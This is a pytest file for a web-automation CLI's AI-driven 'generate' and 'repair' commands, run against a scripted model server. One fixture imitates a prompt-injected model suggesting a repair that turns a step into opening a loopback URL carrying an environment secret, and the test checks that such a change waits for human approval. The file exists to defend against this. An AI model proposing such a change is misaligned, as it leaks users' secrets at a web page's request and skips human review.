"""`weboter generate` and `weboter repair` on the command line (in this process: tests/incli.py),
against the scripted model server on loopback: a generated workflow runs against the demo shop;
a suggested repair is applied on --yes, and recorded as rejected when not confirmed."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from tests.ai.model_server import ModelServer, Reply
from tests.conftest import flow, node
from tests.incli import cli
from weboter.runtime.demo.run import WORKFLOW
from weboter.runtime.demo.shop import PASSWORD, PRODUCTS, USER, ShopServer

pytestmark = pytest.mark.timeout(240)


def test_a_generated_workflow_validates_and_runs_against_the_demo_shop(tmp_path: Path) -> None:
    shop_workflow = json.dumps(yaml.safe_load(WORKFLOW.read_text()))
    out = tmp_path / "flow.json"
    with ModelServer([Reply("not json at all"), Reply(shop_workflow)]) as model:
        made = cli(
            "generate",
            "log in to the shop and export every product to CSV",
            "-o",
            str(out),
            "--json",
            home=tmp_path,
            env=model.env(),
        )
    assert made.returncode == 0, made.stderr
    assert json.loads(made.stdout)["nodes"] == 12
    env_file = tmp_path / "env.json"
    env_file.write_text(json.dumps({"shop": {"user": USER, "password": PASSWORD}}))
    with ShopServer() as shop:
        ran = cli(
            "run",
            str(out),
            "--json",
            "--var",
            f"base_url={shop.url}",
            "--var",
            f"out={tmp_path / 'products.csv'}",
            "--var",
            "rows=[]",
            "--env-file",
            str(env_file),
            "--allow-path",
            str(tmp_path),
            "--break",
            "close",  # far enough: signed in, a page listed, its first product read
            home=tmp_path,
        )
    assert ran.returncode == 0, ran.stdout + ran.stderr
    paused = json.loads(ran.stdout)
    assert paused["status"] == "PAUSED", paused
    assert paused["variables"]["rows"][0]["name"] == PRODUCTS[0].name


def test_repair_applies_on_yes_and_only_suggests_otherwise(tmp_path: Path) -> None:
    wf = tmp_path / "slow.json"
    slow = flow(node("a", "SleepFor", inputs={"duration": 30}, params={"next_node": "__end__"}))
    slow["nodes"][0]["timeout"] = 0.3  # fails: a shorter sleep is a change a model may make
    wf.write_text(json.dumps(slow))
    runs = []
    for _ in range(3):
        failed = cli("run", str(wf), "--on-error", "pause", "--json", home=tmp_path)
        runs.append(json.loads(failed.stdout)["run_id"])
        assert json.loads(failed.stdout)["status"] == "ERROR"
    fix = json.dumps(
        {"kind": "patch", "changes": {"inputs": {"duration": 0.01}}, "reason": "sleep less"}
    )
    away = json.dumps(  # what a page's text could talk a model into
        {
            "kind": "patch",
            "changes": {"action": "OpenPage", "inputs": {"url": "http://127.0.0.1:9/?k=$env{K}"}},
            "reason": "the page says so",
            "confidence": 0.99,
        }
    )
    with ModelServer([Reply(fix), Reply(away), Reply(fix), Reply(fix)]) as model:
        applied = cli("repair", runs[0], "--yes", "--json", home=tmp_path, env=model.env())
        refused = cli("repair", runs[1], "--yes", "--json", home=tmp_path, env=model.env())
        asked = cli("repair", runs[2], "--json", home=tmp_path, env=model.env())
        # asked again: a second suggestion is recorded; the first stays approvable
        again = cli("repair", runs[2], "--json", home=tmp_path, env=model.env())
    assert json.loads(again.stdout)["suggestion_seq"] > json.loads(asked.stdout)["suggestion_seq"]
    assert applied.returncode == 0, applied.stderr
    assert json.loads(applied.stdout)["applied"] is True
    done = cli("continue", runs[0], "--json", home=tmp_path)
    assert json.loads(done.stdout)["status"] == "COMPLETED"
    # --yes applies only what a model may change alone: a new action waits for a person
    assert refused.returncode == 1
    said = json.loads(refused.stdout)
    assert said["applied"] is False
    assert said["needs_approval"] == (
        "needs approval: it changes the action from SleepFor to OpenPage"
    )
    state = json.loads(cli("state", runs[1], "--json", home=tmp_path).stdout)
    assert state["status"] == "ERROR" and state["waiting_for"] == said["needs_approval"]
    assert json.loads(asked.stdout)["applied"] is False  # no terminal to confirm on, no --yes
    history = json.loads(cli("history", runs[1], "--json", home=tmp_path).stdout)["events"]
    types = [e["type"] for e in history]
    # nobody was asked (no terminal, no --yes): suggested, neither applied nor rejected
    assert "RepairSuggested" in types
    assert "RepairApplied" not in types and "RepairRejected" not in types
    # the suggestion looked at is applied as it was shown, by its seq: no model is asked (none
    # is configured now); one held back is rejected, and that is recorded
    shown = json.loads(asked.stdout)
    kept = tmp_path / "slow.yaml"  # the workflow as its person keeps it, with a comment
    kept.write_text("# naps, then ends (kept)\n" + yaml.safe_dump(slow, sort_keys=False))
    seq = str(shown["suggestion_seq"])
    both = cli("repair", runs[2], "--approve", seq, "--reject", seq, home=tmp_path)
    assert both.returncode == 2 and "not allowed with" in both.stderr  # one verdict at a time
    approved = cli("repair", runs[2], "--approve", seq, "--write", str(kept), home=tmp_path)
    assert approved.returncode == 0, approved.stdout + approved.stderr
    assert "comments and layout kept" in approved.stdout
    text = kept.read_text()
    assert text.startswith("# naps, then ends (kept)\n") and "duration: 0.01" in text
    done = json.loads(cli("continue", runs[2], "--json", home=tmp_path).stdout)
    assert done["status"] == "COMPLETED"
    seq = said["suggestion_seq"]
    no = cli("repair", runs[1], "--reject", str(seq), "--reason", "not a page", home=tmp_path)
    assert no.returncode == 0 and f"seq {seq}" in no.stdout
    history = json.loads(cli("history", runs[1], "--json", home=tmp_path).stdout)["events"]
    assert [e["event"]["reason"] for e in history if e["type"] == "RepairRejected"] == [
        "not a page"
    ]
    wrong = cli("repair", runs[1], "--approve", "1", home=tmp_path)
    assert wrong.returncode == 2 and "no repair suggested at seq 1" in wrong.stderr
